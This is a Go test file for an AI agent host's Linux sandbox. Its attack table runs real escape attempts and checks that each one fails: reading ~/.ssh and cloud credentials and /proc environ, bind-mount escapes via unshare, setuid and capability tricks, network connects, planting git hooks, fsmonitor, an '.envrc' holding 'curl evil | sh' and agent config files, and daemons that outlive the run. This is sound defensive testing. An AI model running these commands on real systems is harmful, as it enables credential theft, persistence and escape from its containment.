package exec

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	osexec "os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// requireSandbox skips t, saying why, when this machine cannot run the
// whole sandbox.
func requireSandbox(t *testing.T) {
	t.Helper()
	if landlockABI() == 0 {
		t.Skip("skipped: this kernel has no Landlock (needs Linux 5.13+ with landlock in lsm=)")
	}
	if secondLayer() {
		return // TestAttacksWithoutUserNamespaces: Landlock and seccomp alone
	}
	if err := osexec.Command("unshare", "-Urn", "true").Run(); err != nil {
		t.Skipf("skipped: unprivileged user and network namespaces are not available (unshare -Urn: %v)", err)
	}
	if !haveSeccomp {
		t.Skip("skipped: no seccomp filter for this architecture")
	}
}

// sbFixture is the world an attack runs in: a fake home with dotfiles and
// secrets, a workspace that is a git repository with a nested one,
// another project, a file in /etc, one in the shared /tmp, and listeners
// on the loopback addresses, all made by the test.
type sbFixture struct {
	base, home, ws, other string
	etcFile, tmpFile      string
	python                string
	secrets               map[string]string // path -> marker inside
	r                     *Runner
	wsDir                 *os.File
}

const secretMarker = "SECRET-7f3a9c"

func newSBFixture(t *testing.T) *sbFixture {
	t.Helper()
	requireSandbox(t)
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	f := &sbFixture{base: base, home: filepath.Join(base, "home"), ws: filepath.Join(base, "ws"), other: filepath.Join(base, "other"),
		secrets: map[string]string{}}
	for _, d := range []string{f.home, f.ws, f.other} {
		must(t, os.MkdirAll(d, 0o755))
	}
	write := func(p, s string) {
		t.Helper()
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(s), 0o644))
	}
	write(filepath.Join(f.home, ".bashrc"), "# bashrc\n")
	write(filepath.Join(f.home, ".profile"), "# profile\n")
	for i, s := range append(append([]string(nil), DefaultDenyRead...), "custom-secret.txt") {
		p := filepath.Join(f.home, s)
		if !strings.Contains(filepath.Base(s), ".") || s == ".ssh" || s == ".aws" || s == ".gnupg" || s == ".azure" || s == ".kube" || s == ".password-store" || s == ".config/gcloud" || s == ".config/gh" {
			p = filepath.Join(p, "key")
		}
		m := fmt.Sprintf("%s-%d", secretMarker, i)
		write(p, m+"\n")
		f.secrets[p] = m
	}
	write(filepath.Join(f.other, "file"), "other project\n")

	// A file in /etc to attack: only root can make one; otherwise the
	// /etc attacks skip.
	if etc, err := os.CreateTemp("/etc", "agenthost-sandbox-test-"); err == nil {
		etc.WriteString("etc file\n")
		etc.Close()
		f.etcFile = etc.Name()
		t.Cleanup(func() { os.Remove(f.etcFile) })
	}
	tmp, err := os.CreateTemp("/tmp", "agenthost-sandbox-shared-")
	must(t, err)
	tmp.WriteString("shared tmp\n")
	tmp.Close()
	f.tmpFile = tmp.Name()
	t.Cleanup(func() { os.Remove(f.tmpFile) })

	f.python = pythonPath()

	// The workspace: a repository with one commit and a nested one.
	f.git(t, f.ws, "init", "-q", "-b", "main")
	write(filepath.Join(f.ws, "a.txt"), "a\n")
	f.git(t, f.ws, "add", "-A")
	f.git(t, f.ws, "commit", "-qm", "one")
	must(t, os.MkdirAll(filepath.Join(f.ws, "sub", "inner"), 0o755))
	inner := filepath.Join(f.ws, "sub", "inner")
	f.git(t, inner, "init", "-q")
	write(filepath.Join(inner, "i.txt"), "i\n")
	f.git(t, inner, "add", "-A")
	f.git(t, inner, "commit", "-qm", "inner")

	f.r = NewRunner(Limits{KillGrace: testKillGrace, DrainGrace: testDrainGrace, DefaultTimeout: 30 * time.Second})
	t.Cleanup(func() { f.r.Close() })
	f.wsDir, err = os.Open(f.ws)
	must(t, err)
	t.Cleanup(func() { f.wsDir.Close() })
	return f
}

// gitEnv isolates git from the machine's configuration.
func (f *sbFixture) gitEnv() []string {
	return []string{"HOME=" + f.home, "XDG_CONFIG_HOME=" + filepath.Join(f.home, ".config"), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
}

func (f *sbFixture) git(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := osexec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), f.gitEnv()...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func (f *sbFixture) sandbox() *Sandbox {
	if secondLayer() {
		return &Sandbox{Roots: []string{f.ws}, Home: f.home, DenyRead: []string{"custom-secret.txt"}, BestEffort: true}
	}
	return &Sandbox{Roots: []string{f.ws}, Home: f.home, DenyRead: []string{"custom-secret.txt"}, Required: true}
}

// secondLayer reports whether the tests run where user namespaces are
// refused, to test the second layer (TestAttacksWithoutUserNamespaces).
func secondLayer() bool { return os.Getenv("AGENTHOST_TEST_NOUSERNS") != "" }

// compareWith is, when set, another sandbox's command prefix to run the
// tables under instead of ours (AGENTHOST_SANDBOX_COMPARE, e.g. "srt" or
// "codex sandbox linux --full-auto --"): the tables then count what gets
// through and what breaks instead of failing (see bench/sandbox).
var compareWith = os.Getenv("AGENTHOST_SANDBOX_COMPARE")

// request is the request that runs command in the workspace: in our
// sandbox, or unsandboxed under compareWith.
func (f *sbFixture) request(command string, sb *Sandbox, env ...string) Request {
	req := Request{
		Command: command, Cwd: f.ws, Dir: f.wsDir, Sandbox: sb,
		Env: append(append(f.gitEnv(), "OTHER="+f.other, "PY="+f.python), env...),
	}
	if compareWith != "" {
		req.Command = compareWith + " bash -c " + shellQuote(command)
		req.Sandbox = nil
		// A temporary directory of the command's own, as ours gets:
		// not the test's, which holds the fixture.
		// (AGENTHOST_SANDBOX_COMPARE_TMPDIR: a short path, for the
		// unix sockets some sandboxes make there.)
		tmp := os.Getenv("AGENTHOST_SANDBOX_COMPARE_TMPDIR")
		if tmp == "" {
			tmp = filepath.Join(f.base, "cmdtmp")
		}
		os.MkdirAll(tmp, 0o700)
		req.Env = append(req.Env, "TMPDIR="+tmp)
	}
	return req
}

// run runs command sandboxed in the workspace.
func (f *sbFixture) run(t *testing.T, command string, env ...string) Output {
	t.Helper()
	out, err := f.r.Exec(context.Background(), f.request(command, f.sandbox(), env...))
	if err != nil {
		t.Fatalf("%q did not start: %v", command, err)
	}
	return out
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func fileIs(t checker, path, want string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Errorf("%s: %v", path, err)
		return
	}
	if string(b) != want {
		t.Errorf("%s was changed: %q", path, b)
	}
}

func absent(t checker, path string) {
	t.Helper()
	if _, err := os.Lstat(path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s exists after the run (%v)", path, err)
	}
}

// TestSandboxAttacks runs each attack as a real command under the
// sandbox and checks from outside that it did not happen.
func TestSandboxAttacks(t *testing.T) {
	f := newSBFixture(t)

	// Listeners the test owns, on loopback only, counting what reaches
	// them.
	var reached atomic.Int32
	var closers []func()
	defer func() {
		for _, c := range closers {
			c()
		}
	}()
	tcp := map[string]string{}
	for _, netw := range []string{"tcp4", "tcp6"} {
		addr := map[string]string{"tcp4": "127.0.0.1:0", "tcp6": "[::1]:0"}[netw]
		l, err := net.Listen(netw, addr)
		if err != nil {
			t.Logf("no %s listener: %v", netw, err)
			continue
		}
		closers = append(closers, func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				reached.Add(1)
				c.Close()
			}
		}()
		tcp[netw] = l.Addr().String()
	}
	udp := map[string]string{}
	for _, netw := range []string{"udp4", "udp6"} {
		addr := map[string]string{"udp4": "127.0.0.1:0", "udp6": "[::1]:0"}[netw]
		c, err := net.ListenPacket(netw, addr)
		if err != nil {
			t.Logf("no %s listener: %v", netw, err)
			continue
		}
		closers = append(closers, func() { c.Close() })
		go func() {
			b := make([]byte, 512)
			for {
				if _, _, err := c.ReadFrom(b); err != nil {
					return
				}
				reached.Add(1)
			}
		}()
		udp[netw] = c.LocalAddr().String()
	}
	sockPath := filepath.Join(f.base, "outside.sock")
	abstract := fmt.Sprintf("@agenthost-test-%d", os.Getpid())
	for _, name := range []string{sockPath, abstract} {
		l, err := net.Listen("unix", name)
		must(t, err)
		closers = append(closers, func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				reached.Add(1)
				c.Close()
			}
		}()
	}
	// An outside process: a target for signals and for /proc/PID/cwd.
	victim := osexec.Command("sleep", "60")
	victim.Dir = f.other
	victim.Env = []string{"VICTIM_SECRET=" + secretMarker}
	must(t, victim.Start())
	defer func() { victim.Process.Kill(); victim.Wait() }()
	vpid := strconv.Itoa(victim.Process.Pid)

	pyConnect := func(family, addr string) string {
		return fmt.Sprintf(`"$PY" -c 'import socket,sys; s=socket.socket(socket.%s, socket.SOCK_STREAM); s.settimeout(2); s.connect(%s); print("CONN"+"ECTED")'`, family, addr)
	}
	pyUDP := func(family, host string, port string) string {
		return fmt.Sprintf(`"$PY" -c 'import socket; s=socket.socket(socket.%s, socket.SOCK_DGRAM); s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", ("%s", %s)); print("SE"+"NT")'`, family, host, port)
	}
	hostPort := func(a string) (string, string) {
		h, p, _ := net.SplitHostPort(a)
		return h, p
	}

	type attack struct {
		name  string
		cmd   string
		check func(t checker, out Output)
	}
	notIn := func(s string) func(t checker, out Output) {
		return func(t checker, out Output) {
			if strings.Contains(out.Stdout+out.Stderr, s) {
				t.Errorf("output holds %q:\n%s%s", s, out.Stdout, out.Stderr)
			}
		}
	}
	unchanged := func(p, want string) func(t checker, out Output) {
		return func(t checker, out Output) { fileIs(t, p, want) }
	}
	gone := func(p string) func(t checker, out Output) {
		return func(t checker, out Output) { absent(t, p) }
	}
	noReach := func(t checker, out Output) {
		if n := reached.Swap(0); n != 0 {
			t.Errorf("%d connections or datagrams reached the test's listeners\n%s%s", n, out.Stdout, out.Stderr)
		}
		notIn("CONNECTED")(t, out)
	}

	attacks := []attack{
		{"write home dotfile", `echo pwned >> "$HOME/.bashrc"`, unchanged(filepath.Join(f.home, ".bashrc"), "# bashrc\n")},
		{"create home dotfile", `echo pwned > "$HOME/.evil"`, gone(filepath.Join(f.home, ".evil"))},
		{"write another project", `echo pwned >> "$OTHER/file"`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"create in another project", `echo pwned > "$OTHER/new"`, gone(filepath.Join(f.other, "new"))},
		{"write /etc file", "echo pwned >> " + f.etcFile, unchanged(f.etcFile, "etc file\n")},
		{"create in /etc", "echo pwned > /etc/agenthost-pwned", gone("/etc/agenthost-pwned")},
		{"write shared /tmp file", "echo pwned >> " + f.tmpFile, unchanged(f.tmpFile, "shared tmp\n")},
		{"create in shared /tmp", "echo pwned > /tmp/agenthost-pwned-" + vpid, gone("/tmp/agenthost-pwned-" + vpid)},
		{"create in /dev/shm", "echo pwned > /dev/shm/agenthost-pwned-" + vpid, gone("/dev/shm/agenthost-pwned-" + vpid)},
		{"symlink to outside", `ln -s "$OTHER/file" l && echo pwned >> l`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"hard link to outside", `ln "$OTHER/file" h; echo pwned >> h`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"rename outside file in", `mv "$OTHER/file" stolen`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"/proc/self/root", `echo pwned >> "/proc/self/root$OTHER/file"`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"/proc/PID/cwd write", "echo pwned > /proc/" + vpid + "/cwd/planted", gone(filepath.Join(f.other, "planted"))},
		{"/proc/PID/cwd read", "cat /proc/" + vpid + "/cwd/file; ls /proc/" + vpid + "/cwd/", notIn("other project")},
		{"/proc/PID/environ", "cat /proc/" + vpid + "/environ", notIn(secretMarker)},
		{"unshare -r then bind mount", `mkdir -p mnt && unshare -r sh -c 'mount --bind "$OTHER" mnt && echo pwned >> mnt/file'`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"unshare -rm then bind mount", `mkdir -p mnt2 && unshare -rm sh -c 'mount --bind "$OTHER" mnt2 && echo pwned >> mnt2/file'`, unchanged(filepath.Join(f.other, "file"), "other project\n")},
		{"signal outside process", "kill -TERM " + vpid + "; kill -KILL " + vpid, func(t checker, out Output) {
			if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
				t.Errorf("the outside process was killed: %v", err)
			}
		}},
		{"tcp4 connect", pyConnect("AF_INET", pyAddr(hostPort(tcp["tcp4"]))), noReach},
		{"tcp6 connect", pyConnect("AF_INET6", pyAddr(hostPort(tcp["tcp6"]))), noReach},
		{"curl tcp4", "curl -s -m 2 http://" + tcp["tcp4"] + "/", noReach},
		{"udp4 send (DNS query)", pyUDP("AF_INET", "127.0.0.1", port(udp["udp4"])), noReach},
		{"udp6 send (DNS query)", pyUDP("AF_INET6", "::1", port(udp["udp6"])), noReach},
		{"DNS lookup", `getent hosts example.com && echo CONNECTED`, noReach},
		{"tcp bind", `"$PY" -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); print("CONN"+"ECTED")'`, noReach},
		{"unix socket of outside", pyConnect("AF_UNIX", `"`+sockPath+`"`), noReach},
		{"abstract socket of outside", pyConnect("AF_UNIX", `"\0`+abstract[1:]+`"`), noReach},
		{"setuid by chmod", `cp /bin/true suid && chmod u+s suid; chmod g+s suid; cp -p /usr/bin/passwd suid2 2>/dev/null; true`, noSetid(f.ws)},
		{"setuid by open mode", `"$PY" -c 'import os; os.close(os.open("suid3", os.O_CREAT|os.O_WRONLY, 0o4755)); os.chmod("suid4", 0o2755) if os.path.exists("suid4") else None'`, noSetid(f.ws)},
		{"file capability", `cp /bin/true cap && "$PY" -c 'import os; os.setxattr("cap", "security.capability", b"\x01\x00\x00\x02\xff\xff\xff\xff\x00\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00")'`, func(t checker, out Output) {
			if v, err := getxattr(filepath.Join(f.ws, "cap"), "security.capability"); err == nil && len(v) > 0 {
				t.Errorf("cap has a file capability")
			}
		}},
		{"plant pre-commit hook", `printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, gone(filepath.Join(f.ws, ".git/hooks/pre-commit"))},
		{"replace hooks dir by a link", `rm -rf .git/hooks && ln -s "$OTHER" .git/hooks`, func(t checker, out Output) {
			if fi, err := os.Lstat(filepath.Join(f.ws, ".git/hooks")); err != nil || !fi.IsDir() {
				t.Errorf(".git/hooks is not a directory after the run: %v %v", fi, err)
			}
			fileIs(t, filepath.Join(f.other, "file"), "other project\n")
		}},
		{"core.fsmonitor", `git config core.fsmonitor 'touch /tmp/pwned'`, func(t checker, out Output) {
			if b, _ := os.ReadFile(filepath.Join(f.ws, ".git/config")); bytes.Contains(b, []byte("fsmonitor")) {
				t.Errorf(".git/config holds fsmonitor after the run:\n%s", b)
			}
		}},
		{"core.hooksPath", `mkdir -p myhooks && printf '#!/bin/sh\n' > myhooks/pre-commit && git config core.hooksPath myhooks`, func(t checker, out Output) {
			if b, _ := os.ReadFile(filepath.Join(f.ws, ".git/config")); bytes.Contains(b, []byte("hooksPath")) {
				t.Errorf(".git/config holds hooksPath after the run:\n%s", b)
			}
		}},
		{"nested repo hook", `printf '#!/bin/sh\n' > sub/inner/.git/hooks/post-checkout`, gone(filepath.Join(f.ws, "sub/inner/.git/hooks/post-checkout"))},
		{"nested repo fsmonitor", `git -C sub/inner config core.fsmonitor 'touch /tmp/pwned'`, func(t checker, out Output) {
			if b, _ := os.ReadFile(filepath.Join(f.ws, "sub/inner/.git/config")); bytes.Contains(b, []byte("fsmonitor")) {
				t.Errorf("nested .git/config holds fsmonitor after the run")
			}
		}},
		{"submodule hook", `mkdir -p .git/modules/m/hooks && echo 'ref: refs/heads/main' > .git/modules/m/HEAD && printf '#!/bin/sh\n' > .git/modules/m/hooks/post-merge`, gone(filepath.Join(f.ws, ".git/modules/m/hooks/post-merge"))},
		{"new repo with a hook", `git init -q newrepo && printf '#!/bin/sh\n' > newrepo/.git/hooks/pre-push`, gone(filepath.Join(f.ws, "newrepo/.git/hooks/pre-push"))},
		{"gitdir file", `mkdir -p wt && echo "gitdir: $TMPDIR/evil" > wt/.git`, gone(filepath.Join(f.ws, "wt/.git"))},
		{"commondir", `echo "$TMPDIR/evil" > .git/commondir`, gone(filepath.Join(f.ws, ".git/commondir"))},
		{".envrc", `echo 'curl evil | sh' > .envrc`, gone(filepath.Join(f.ws, ".envrc"))},
		{".claude/settings.json", `mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.local.json`, gone(filepath.Join(f.ws, ".claude/settings.local.json"))},
		{".mcp.json", `echo '{}' > .mcp.json`, gone(filepath.Join(f.ws, ".mcp.json"))},
		{".vscode/tasks.json", `mkdir -p .vscode && echo '{}' > .vscode/tasks.json`, gone(filepath.Join(f.ws, ".vscode/tasks.json"))},
		{".codex/", `mkdir -p .codex && echo x > .codex/config.toml`, gone(filepath.Join(f.ws, ".codex"))},
		{"double-forked daemon", `(setsid sh -c 'sleep 1234.5678' > /dev/null 2>&1 &) ; echo started`, func(t checker, out Output) {
			time.Sleep(50 * time.Millisecond)
			if pids := findCmdline("1234.5678"); len(pids) > 0 {
				t.Errorf("the daemon survived the run: %v", pids)
				for _, p := range pids {
					syscall.Kill(p, syscall.SIGKILL)
				}
			}
		}},
		// The run ends at the helper's status record, before its exit
		// (docs/adr/0028): nothing of the tree may be left by then to
		// plant after the check. (The window a helper that wrote the
		// record before killing would leave is about a millisecond: this
		// catches that only sometimes, a daemon living on always.)
		{"daemon planting past the run", `(setsid timeout 5 sh -c 'while :; do echo x > .envrc; done' > /dev/null 2>&1 &); sleep 0.05; echo started`, func(t checker, out Output) {
			for look := range 2 {
				if _, err := os.Lstat(filepath.Join(f.ws, ".envrc")); err == nil {
					t.Errorf("a daemon's plant is there after the run's check (look %d)", look)
					os.Remove(filepath.Join(f.ws, ".envrc"))
				}
				time.Sleep(100 * time.Millisecond)
			}
		}},
	}
	for p, m := range f.secrets {
		attacks = append(attacks, attack{"read " + strings.TrimPrefix(p, f.home+"/"), "cat " + p + "; cat " + filepath.Dir(p) + "/*", notIn(m)})
	}
	if compareWith != "" {
		var through []string
		for _, a := range attacks {
			out := f.run(t, a.cmd)
			if failsCheck(a.check, out) {
				through = append(through, a.name)
			}
		}
		t.Logf("under %q: %d of %d attacks got through: %s", compareWith, len(through), len(attacks), strings.Join(through, "; "))
		return
	}
	// The checks can fail: a few attacks, run without the sandbox, are
	// seen by them.
	control := map[string]bool{"write another project": true, "tcp4 connect": true, "plant pre-commit hook": true, "read .ssh/key": true, ".envrc": true}
	for _, a := range attacks {
		if !control[a.name] || strings.Contains(a.cmd, "$PY") && f.python == "" {
			continue
		}
		out, err := f.r.Exec(context.Background(), Request{Command: a.cmd, Cwd: f.ws, Dir: f.wsDir,
			Env: []string{"HOME=" + f.home, "OTHER=" + f.other, "PY=" + f.python}})
		must(t, err)
		if !failsCheck(a.check, out) {
			t.Errorf("control: %q run without the sandbox passed its check: the check cannot fail", a.name)
		}
	}
	// Undo what the control runs did.
	must(t, os.WriteFile(filepath.Join(f.other, "file"), []byte("other project\n"), 0o644))
	os.Remove(filepath.Join(f.ws, ".git/hooks/pre-commit"))
	os.Remove(filepath.Join(f.ws, ".envrc"))
	reached.Store(0)

	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if strings.Contains(a.cmd, "$PY") && f.python == "" {
				t.Skip("skipped: python3 is not installed (it makes the sockets)")
			}
			if strings.Contains(a.name, "/etc") && f.etcFile == "" {
				t.Skip("skipped: only root can make a file in /etc to attack")
			}
			out := f.run(t, a.cmd)
			a.check(t, out)
			if t.Failed() || testing.Verbose() {
				t.Logf("stdout: %s\nstderr: %s\nreport: %+v", out.Stdout, out.Stderr, out.Sandbox)
			}
		})
	}
}

// checker is what a check reports to: a *testing.T, or a recorder.
type checker interface {
	Helper()
	Errorf(format string, args ...any)
}

// recorder is a checker that only notes a failure.
type recorder struct{ failed bool }

func (r *recorder) Helper()               {}
func (r *recorder) Errorf(string, ...any) { r.failed = true }

// failsCheck reports whether check fails on out.
func failsCheck(check func(t checker, out Output), out Output) bool {
	r := &recorder{}
	check(r, out)
	return r.failed
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}

func pyAddr(h, p string) string { return fmt.Sprintf(`("%s", %s)`, h, p) }

func port(a string) string {
	_, p, _ := net.SplitHostPort(a)
	return p
}

// noSetid checks that no file under dir has a setuid or setgid bit.
func noSetid(dir string) func(t checker, out Output) {
	return func(t checker, out Output) {
		filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
			if err == nil && fi.Mode().IsRegular() && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
				t.Errorf("%s has mode %v", p, fi.Mode())
			}
			return nil
		})
	}
}

func getxattr(path, name string) ([]byte, error) {
	b := make([]byte, 256)
	n, err := syscall.Getxattr(path, name, b)
	if err != nil {
		return nil, err
	}
	return b[:n], nil
}

// findCmdline returns the pids whose command line holds s.
func findCmdline(s string) []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && bytes.Contains(b, []byte(s)) {
			out = append(out, pid)
		}
	}
	return out
}

// TestSandboxStillWorks runs the everyday commands under the sandbox:
// each must succeed.
func TestSandboxStillWorks(t *testing.T) {
	f := newSBFixture(t)
	must(t, os.WriteFile(filepath.Join(f.ws, "hello.c"), []byte("#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(f.ws, "Makefile"), []byte("all: hello\n\t./hello > made.txt\nhello: hello.c\n\tcc -o hello hello.c\n"), 0o644))
	gomod := filepath.Join(f.ws, "gopkg")
	must(t, os.MkdirAll(gomod, 0o755))
	must(t, os.WriteFile(filepath.Join(gomod, "go.mod"), []byte("module example.com/p\n\ngo 1.21\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(gomod, "p.go"), []byte("package p\n\nfunc Add(a, b int) int { return a + b }\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(gomod, "p_test.go"), []byte("package p\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) { if Add(1, 2) != 3 { t.Fatal() } }\n"), 0o644))
	// The go commands use the machine's build cache, granted for writing
	// (WritePaths) as an embedder that trusts it would: a cold cache
	// inside the sandbox's own directory would compile the standard
	// library, which takes minutes on a loaded CI machine.
	gocache, _ := osexec.Command("go", "env", "GOCACHE").Output()
	goEnv := []string{"GOCACHE=" + strings.TrimSpace(string(gocache)), "GOFLAGS=-mod=mod", "GOTOOLCHAIN=local", "GOPROXY=off"}

	cases := []struct{ name, cmd, want string }{
		{"cc", "cc -o hello hello.c && ./hello", "hello"},
		{"make", "rm -f hello && make -s && cat made.txt", "hello"},
		{"python3", `"$PY" -c 'import json,tempfile,os; d=tempfile.mkdtemp(); print(json.dumps({"ok": os.path.isdir(d)}))'`, `{"ok": true}`},
		{"write TMPDIR", `echo x > "${TMPDIR:-/tmp}/f" && cat "${TMPDIR:-/tmp}/f" && echo tmp-ok`, "tmp-ok"},
		{"git status", "echo b > b.txt && git status --short", "?? b.txt"},
		{"git diff", "echo more >> a.txt && git diff --stat", "a.txt"},
		{"git add -A and commit", "git add -A && git commit -qm two && git log --oneline | wc -l", "2"},
		{"git remote add", "git remote add origin https://example.com/r.git && git remote", "origin"},
		{"git init elsewhere", "git init -q fresh && git -C fresh status --short && echo init-ok", "init-ok"},
		{"npm and node", `command -v npm >/dev/null || { echo "npm-ok (no npm here)"; exit 0; }; mkdir -p js && cd js && npm init -y >/dev/null && node -e 'console.log(require("./package.json").name + " npm-ok")'`, "npm-ok"},
		{"go build", "cd gopkg && go build ./... && echo built", "built"},
		{"go test", "cd gopkg && go test -count=1 ./...", "ok"},
	}
	sb := f.sandbox()
	sb.WritePaths = []string{strings.TrimSpace(string(gocache))}
	if compareWith == "" {
		// Ours: TMP and TEMP name the private directory too.
		cases = append(cases, struct{ name, cmd, want string }{"TMP and TEMP", `echo "$TMP $TEMP" | grep -c agenthost-sandbox`, "1"})
	}
	var broken []string
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if strings.HasPrefix(c.name, "go ") {
				if fi, err := os.Stat(sb.WritePaths[0]); err != nil || !fi.IsDir() {
					t.Skip("skipped: no go build cache to share")
				}
			}
			if strings.Contains(c.cmd, "$PY") && f.python == "" {
				t.Skip("skipped: python3 is not installed")
			}
			for _, tool := range map[string][]string{"cc": {"cc"}, "make": {"make", "cc"}, "go build": {"go"}, "go test": {"go"}}[c.name] {
				if _, err := osexec.LookPath(tool); err != nil {
					t.Skipf("skipped: %s is not installed", tool)
				}
			}
			out, err := f.r.Exec(context.Background(), f.request(c.cmd, sb, goEnv...))
			if err != nil {
				t.Fatal(err)
			}
			if compareWith != "" {
				if out.ExitCode != 0 || !strings.Contains(out.Stdout, c.want) {
					broken = append(broken, c.name+" ("+strings.TrimSpace(lastLine(out.Stderr))+")")
				}
				return
			}
			if out.ExitCode != 0 || !strings.Contains(out.Stdout, c.want) {
				t.Errorf("exit %d, want %q in stdout\nstdout: %s\nstderr: %s", out.ExitCode, c.want, out.Stdout, out.Stderr)
			}
			if len(out.Sandbox.Restored) > 0 {
				t.Errorf("restored %v after an everyday command", out.Sandbox.Restored)
			}
			parts := []string{"env", "landlock-fs", "seccomp", "userns", "pidns", "netns", "protect"}
			if secondLayer() {
				parts = []string{"env", "landlock-fs", "seccomp", "protect"}
			}
			for _, part := range parts {
				if !out.Sandbox.On(part) {
					t.Errorf("report %+v: %s not enforced", out.Sandbox, part)
				}
			}
		})
	}
	if compareWith != "" {
		t.Logf("under %q: %d of %d everyday commands broke: %s", compareWith, len(broken), len(cases), strings.Join(broken, "; "))
		return
	}
	// The remote added above was kept: `git remote add` writes only
	// harmless keys.
	if got := f.git(t, f.ws, "remote"); !strings.Contains(got, "origin") {
		t.Errorf("git remote add was undone: %q", got)
	}
}

// pythonPath is python3's real executable ("" without one), asked once
// per test process: through a version manager's shim (pyenv) each start
// of python3 costs a shell script, and every fixture wanted it.
var pythonPath = sync.OnceValue(func() string {
	out, err := osexec.Command("python3", "-c", "import sys; print(sys.executable)").Output()
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(out))
})
